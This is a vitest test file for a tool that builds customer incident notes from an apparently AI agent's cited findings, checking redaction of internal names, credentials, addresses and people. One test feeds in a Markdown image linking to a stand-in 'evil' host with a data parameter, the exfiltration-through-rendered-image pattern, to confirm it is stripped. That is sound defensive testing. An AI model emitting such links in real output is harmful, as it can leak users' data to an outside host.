import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { FinalAnswer } from '../../src/agent/events.ts'
import type { Evidence } from '../../src/agent/evidence/book.ts'
import { withoutAddresses } from '../../src/agent/report/customer/addresses.ts'
import { customerNote } from '../../src/agent/report/customer/note.ts'
import type { Reported } from '../../src/agent/report/report.ts'
import { hideSecret } from '../../src/base/redact.ts'
import { MAY_HAVE_RUN } from '../../src/toolset/toolset.ts'

const zone = process.env.TZ
beforeAll(() => {
  process.env.TZ = 'Europe/Berlin'
})
afterAll(() => {
  process.env.TZ = zone
})

const at = new Date('2026-11-27T13:03:10Z')
const now = new Date('2026-11-27T14:30:00Z')

function call(number: number, more: Partial<Evidence> = {}): Evidence {
  const text = '{"errors": 12, "rate": "3 %"}'
  return {
    number,
    server: 'prod-mon',
    tool: 'query_range',
    args: {},
    isWrite: false,
    byPerson: false,
    kind: 'answered',
    text: () => text,
    size: text.length,
    at,
    took: 5,
    isLarge: false,
    ...more,
  }
}

const silence = (more: Partial<Evidence> = {}) =>
  call(2, {
    server: 'alertmanager',
    tool: 'create_silence',
    args: { matchers: ['alertname="DiskFull"', 'site="hh"'], duration: '2h' },
    isWrite: true,
    byPerson: true,
    text: () => '{"id": "0f3c9d1e-1111-4222-8333-444455556666", "ends_at": "2026-11-27T15:03:10Z"}',
    ...more,
  })

function reported(answer: string | undefined, evidence = [call(1)], unshown: string[] = []): Reported {
  const end: FinalAnswer = {
    type: 'answer',
    text: answer ?? '',
    turns: 1,
    platform: 'openai',
    model: 'gpt-9-large',
    rule: undefined,
    crossCheck: undefined,
    check: { unknown: [], unshown },
  }
  return {
    customer: { id: 'acme', name: 'Acme', environment: 'prod' },
    story: [
      {
        question: 'why the hell is this down again?',
        at,
        calls: [1],
        end: answer === undefined ? undefined : end,
      },
    ],
    evidence,
    missing: [],
    person: 'evamaria',
    others: [
      { id: 'acme', name: 'Acme' },
      { id: 'segura', name: 'Segura Seguros' },
    ],
    now,
  }
}

const noteOf = (...args: Parameters<typeof reported>) => customerNote(reported(...args))
const found = (...args: Parameters<typeof reported>) =>
  noteOf(...args)
    ?.text.split('\n## What was found\n\n')[1]
    ?.split('\n\n## ')[0]
const section = (text: string | undefined, title: string) =>
  text?.split(`\n## ${title}\n\n`)[1]?.split('\n\n## ')[0]?.trim()

describe('a note for the customer', () => {
  it('says what happened, what was found, what was done and what is still being checked, as of when', () => {
    const alert = JSON.stringify({
      labels: { alertname: 'DiskFull', severity: 'critical', instance: 'db-1' },
      startsAt: '2026-11-27T12:50:00Z',
      status: 'firing',
    })
    const one = reported('There are **12** errors since 12:51 UTC [1].', [call(1), silence()])
    const [episode] = one.story
    const story = [{ ...episode, question: `again this crap?\n${alert}` } as (typeof one.story)[number]]
    const note = customerNote({ ...one, story, missing: [{ server: 'prod-logs', reason: 'stopped' }] })
    expect(note?.text).toBe(`# Incident note: Acme

As of 27 Nov 2026, 15:30 CET (14:30 UTC).

## What happened

- Alert DiskFull, critical, firing since 27 Nov 2026, 13:50 CET (12:50 UTC).
- The investigation began on 27 Nov 2026, 14:03 CET (13:03 UTC).

## What was found

As of 27 Nov 2026, 14:03 CET (13:03 UTC):

- There are 12 errors since 12:51 UTC (13:51 CET).

## What was done

- 27 Nov 2026, 14:03 CET (13:03 UTC): some notifications of alert DiskFull are muted until 27 Nov 2026, 16:03 CET (15:03 UTC).

## What is still being checked

- Some data could not be read yet.
`)
    expect(note?.about).toEqual([])
  })

  it.each([
    ['without a citation', 'There are 12 errors.', '1 without a citation of a result'],
    [
      'with a citation of no result',
      'There are 12 errors [7].',
      '1 with a number or citation that the checks doubt',
    ],
    ['that was struck', 'There are ~~12~~ errors [1].', '1 with a number or citation that the checks doubt'],
    ['that names a tool', 'By `query_range`, 12 errors [1].', '1 with an internal name'],
    ['that names a server', 'prod-mon shows 12 errors [1].', '1 with an internal name'],
    ['that names the model', 'gpt-9-large sees 12 errors [1].', '1 with an internal name'],
    ['that names another customer', 'As at Segura-Seguros, 12 errors [1].', '1 with an internal name'],
    ['that names the engineer', 'evamaria found 12 errors [1].', '1 with an internal name'],
    [
      'with the id of a silence',
      '0f3c9d1e-1111-4222-8333-444455556666 mutes 12 [1].',
      '1 with an internal name',
    ],
    ['that asks', 'Are 12 errors many [1]?', '1 with a question, or words to you'],
    ['that speaks to the engineer', 'You see 12 errors [1].', '1 with a question, or words to you'],
  ])('leaves out a sentence %s, and tells the engineer', (_what, left, why) => {
    const note = noteOf(`${left} The rate is 3 % [1].`)
    expect(section(note?.text, 'What was found')?.split('\n').slice(2)).toEqual(['- The rate is 3 %.'])
    expect(note?.about).toEqual([`1 sentence of the answers left out: ${why}`])
  })

  it('leaves out numbers that no result shows, and results of calls that failed', () => {
    expect(found('There are 42 errors [1]. The rate is 3 % [1].', undefined, ['42'])).not.toContain('42')
    expect(noteOf('It is down [1].', [call(1, { kind: 'failed' })])).toBe(undefined)
  })

  it('leaves out what was never checked', () => {
    const one = reported('There are 12 errors [1].')
    const [episode] = one.story
    const end = { ...(episode?.end as FinalAnswer), check: undefined }
    expect(customerNote({ ...one, story: [{ ...episode, end } as (typeof one.story)[number]] })).toBe(
      undefined,
    )
  })

  it('has no addresses of people and machines', () => {
    expect(
      found('db at 10.0.0.17:5432, db-1.prod.internal and web-1:9090, says jane@acme.example [1].'),
    ).toContain('- db at [address], [address] and web-1, says [e-mail address].')
  })

  it('takes the items of a list with the words before it, and the rows of a table', () => {
    const answer = `Two hosts have errors:

- web-1: 12 errors [1]
- web-2: 3 errors
- web-3: 3 errors. [1]

| host | rate |
| --- | --- |
| web-1 | 3 % [1] |

# 12 [1]
\`\`\`
12 [1]
\`\`\``
    expect(found(answer)?.split('\n').slice(2)).toEqual([
      '- Two hosts have errors: web-1: 12 errors',
      '- Two hosts have errors: web-3: 3 errors.',
      '- host: web-1, rate: 3 %',
    ])
  })

  it.each([
    ['**There are 12 errors.** [1]', '- There are 12 errors.'],
    ['There are 12 errors. [1] [1]', '- There are 12 errors.'],
    ['He said "12 errors." [1] The rest is fine.', '- He said "12 errors."'],
  ])('takes a citation behind the end of its sentence: %s', (answer, line) => {
    expect(found(answer)?.split('\n').slice(2)).toEqual([line])
  })

  it('takes all that is bold before a citation, and no remark about the answer for a finding', () => {
    const note = noteOf('**There are 12 errors. The rate is 3 %.** [1]\n\n_Answered by rules._')
    expect(section(note?.text, 'What was found')?.split('\n').slice(2)).toEqual([
      '- There are 12 errors.',
      '- The rate is 3 %.',
    ])
    expect(note?.about).toEqual([])
    expect(note?.text).not.toContain('still being checked')
  })

  it('is none where a citation stands alone', () => {
    expect(noteOf('Errors:\n\n[1]')).toBe(undefined)
  })

  it('takes the items below what cites their result', () => {
    expect(
      found('Two hosts have errors [1]:\n1. web-1: 12 errors\n2. web-2: 3 %')?.split('\n').slice(2),
    ).toEqual(['- Two hosts have errors: web-1: 12 errors', '- Two hosts have errors: web-2: 3 %'])
  })

  it('keeps the product that a server is called after', () => {
    expect(found('Grafana shows 12 errors [1].', [call(1, { server: 'grafana' })])).toContain(
      '- Grafana shows 12 errors.',
    )
  })

  it('says what became of each change, and what nobody knows', () => {
    const wrong = call(3, { isWrite: true, kind: 'cancelled', text: () => `cancelled; ${MAY_HAVE_RUN}` })
    const failed = call(4, { isWrite: true, kind: 'tool_error', text: () => 'no' })
    const ended = call(5, {
      tool: 'expire_silence',
      args: { id: '0f3c9d1e-1111-4222-8333-444455556666' },
      isWrite: true,
      at: now,
    })
    const other = call(6, { tool: 'restart_service', isWrite: true })
    const note = noteOf('Fine.', [silence(), wrong, failed, ended, other])
    expect(section(note?.text, 'What was done')?.split('\n')).toEqual([
      '- 27 Nov 2026, 14:03 CET (13:03 UTC): some notifications of alert DiskFull were muted until 27 Nov 2026, 16:03 CET (15:03 UTC); this was ended on 27 Nov 2026, 15:30 CET (14:30 UTC).',
      '- 27 Nov 2026, 14:03 CET (13:03 UTC): a change was begun; whether it took effect is not known yet.',
      '- 27 Nov 2026, 14:03 CET (13:03 UTC): a change was made.',
    ])
    expect(section(note?.text, 'What is still being checked')).toBe(
      '- Whether the change of 27 Nov 2026, 14:03 CET (13:03 UTC) took effect.',
    )
    expect(note?.about).toContain('1 change only called "a change": say what it was')
  })

  it('takes the account of nobody in particular for a word', () => {
    const note = customerNote({ ...reported('The root cause is a full disk [1].'), person: 'root' })
    expect(section(note?.text, 'What was found')).toContain('- The root cause is a full disk.')
  })

  it.each([
    [['alertname="DiskFull"'], 'notifications of alert DiskFull'],
    [['alertname="DiskFull"', 'site="hh"'], 'some notifications of alert DiskFull'],
    [[{ name: 'alertname', value: 'DiskFull', isEqual: true }], 'notifications of alert DiskFull'],
    [[{ name: 'alertname', value: 'DiskFull', isEqual: false }], 'notifications of some alerts'],
    [['alertname!="DiskFull"'], 'notifications of some alerts'],
    [['alertname=~"Disk.*"'], 'notifications of some alerts'],
    [['site="hh"'], 'notifications of some alerts'],
  ])('says what a silence mutes: %j', (matchers, muted) => {
    const text = noteOf('Fine.', [silence({ args: { matchers } })])?.text
    expect(section(text, 'What was done')).toContain(`(13:03 UTC): ${muted} are muted`)
  })

  it('has the findings of the same minute together, each once', () => {
    const one = reported('There are 12 errors [1].')
    const again = { ...one, story: [...one.story, ...one.story, ...reported('The rate is 3 % [1].').story] }
    expect(section(customerNote(again)?.text, 'What was found')?.split('\n')).toEqual([
      'As of 27 Nov 2026, 14:03 CET (13:03 UTC):',
      '',
      '- There are 12 errors.',
      '- The rate is 3 %.',
    ])
  })

  it.each(['l.ortega', 'Ortega', 'Ana', 'ana'])('names no person whom a result names: %s', name => {
    const text = '[{"created_by": "l.ortega", "comment": "supplier"}, {"created_by": "ana"}]'
    const note = noteOf(`It is muted by ${name} [1]. The rate is 3 % [1].`, [call(1, { text: () => text })])
    expect(section(note?.text, 'What was found')?.split('\n').slice(2)).toEqual(['- The rate is 3 %.'])
  })

  it('says that a question has no answer yet, and not in which words it was asked', () => {
    const one = reported('There are 12 errors [1].')
    const running = { question: 'and now, damn?', at, calls: [], end: undefined }
    const text = customerNote({ ...one, story: [...one.story, running] })?.text
    expect(section(text, 'What is still being checked')).toBe('- 1 question that has no answer yet.')
    expect(text).not.toMatch(/hell|damn/)
  })

  it('is none where nothing is proven and nothing was changed', () => {
    expect(noteOf('It is probably the disk.')).toBe(undefined)
    expect(noteOf(undefined)).toBe(undefined)
  })

  it('has no values of credentials, and no Markdown of an answer', () => {
    hideSecret('tok-4711-secret')
    const text = noteOf(
      'It is tok-4711-secret [1]. There are 12 ![x](http://evil/?d=1) <img src=x> errors [1].',
    )?.text
    expect(text).not.toContain('4711')
    expect(text).toContain('- There are 12 x \\<img src=x> errors.')
  })
})

it.each([
  ['at 10.0.0.17.', 'at [address].'],
  ['müller@example.de', '[e-mail address]'],
  ['call +49 40 123456-78.', 'call [telephone number].'],
  ['[2001:db8::1]:443, aa:bb:cc:dd:ee:ff', '[address], [address]'],
  ['amqp://mq.internal:5671/x', '[address]'],
  ['db-1.prod.internal:5432 and web-1:9090 at localhost', '[address] and web-1 at [address]'],
  ['node1:9100 and db.prod:5432', 'node1 and db.prod'],
  ['status:500, p95:1200, errors:12, UTC-3:30', 'status:500, p95:1200, errors:12, UTC-3:30'],
  ['at 14:03:10, version 1.2.3', 'at 14:03:10, version 1.2.3'],
])('without addresses, %j is %j', (text, left) => {
  expect(withoutAddresses(text)).toBe(left)
})
